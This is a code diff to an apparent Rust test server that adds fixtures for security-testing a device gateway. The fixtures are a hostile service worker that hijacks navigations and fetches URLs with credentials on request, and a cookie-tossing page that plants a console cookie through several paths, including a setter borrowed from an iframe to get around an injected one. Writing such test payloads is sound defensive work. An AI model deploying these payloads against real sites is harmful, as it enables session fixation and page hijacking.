@@ -119,6 +119,9 @@ impl Origin {
             .route("/ws", get(ws_echo))
             .route("/ws/big/{n}", get(ws_big))
             .route("/ws/flood", get(ws_flood))
+            .route("/sw.js", get(worker_script))
+            .route("/sw/page", get(worker_page))
+            .route("/toss", get(toss))
             .route("/hold", get(hold))
             .with_state(stats)
     }
@@ -354,4 +357,87 @@ async fn ws_echo(ws: WebSocketUpgrade) -> Response {
             }
         }
     })
+}
+
+#[derive(Deserialize)]
+struct WorkerQuery {
+    allowed: Option<String>,
+}
+
+/// A hostile service worker: it claims every page it may, answers their navigations
+/// itself (a page showing `#hijacked` and the URL), and fetches what it is asked by
+/// message, answering the statuses. Served with `Service-Worker-Allowed: /` (or
+/// `?allowed=`), asking for the whole origin.
+async fn worker_script(Query(q): Query<WorkerQuery>) -> Response {
+    const JS: &str = r#"
+self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
+self.addEventListener("fetch", (e) => {
+  if (e.request.mode !== "navigate") return;
+  e.respondWith(new Response("<!doctype html><title>hijacked</title><p id=hijacked>" + e.request.url,
+    { headers: { "content-type": "text/html" } }));
+});
+self.addEventListener("message", (e) => {
+  const port = e.ports[0];
+  Promise.all(e.data.map((r) => fetch(r.url, { credentials: r.credentials }).then((x) => x.status, () => 0)))
+    .then((s) => port.postMessage(s));
+});
+"#;
+    let allowed = q.allowed.unwrap_or_else(|| "/".into());
+    (
+        [
+            ("content-type", "text/javascript".to_owned()),
+            ("service-worker-allowed", allowed),
+        ],
+        JS,
+    )
+        .into_response()
+}
+
+/// A plain device page for scripts the tests run in it (registering workers).
+async fn worker_page() -> Response {
+    (
+        [("content-type", "text/html; charset=utf-8")],
+        "<!doctype html><html><head><title>sw</title></head><body><p id=ready>ready</p></body></html>",
+    )
+        .into_response()
+}
+
+#[derive(Deserialize)]
+struct TossQuery {
+    c: String,
+}
+
+/// Cookie tossing: a device page that plants `ponte_console=<c>` for the console's paths
+/// on the gateway's host, every way a page can: its response's `Set-Cookie`, the page's
+/// `document.cookie` (the gateway's injected setter), a pristine `document.cookie` setter
+/// from another realm (round the injected one) and `cookieStore`. `#done` says when.
+async fn toss(Query(q): Query<TossQuery>) -> Response {
+    let page = r#"<!doctype html><html><head><title>toss</title></head><body><p id=done></p>
+<script>
+(async function () {
+  var c = new URLSearchParams(location.search).get("c");
+  document.cookie = "ponte_console=" + c + "; path=/instituicao";
+  var f = document.createElement("iframe");
+  document.body.appendChild(f);
+  var set = Object.getOwnPropertyDescriptor(f.contentWindow.Document.prototype, "cookie").set;
+  set.call(document, "ponte_console=" + c + "; path=/instituicao");
+  set.call(document, "ponte_console=" + c + "; path=/");
+  if (window.cookieStore) {
+    try { await cookieStore.set({ name: "ponte_console", value: c, path: "/instituicao/" }); } catch (e) {}
+  }
+  document.getElementById("done").textContent = "done";
+})();
+</script></body></html>"#;
+    let mut r = ([("content-type", "text/html; charset=utf-8")], page).into_response();
+    for c in [
+        format!("ponte_console={}; Path=/instituicao", q.c),
+        format!("ponte_console={}; Path=/", q.c),
+        format!("__ponte_rs={}; Path=/", q.c),
+    ] {
+        if let Ok(v) = c.parse() {
+            r.headers_mut().append("set-cookie", v);
+        }
+    }
+    r
 }
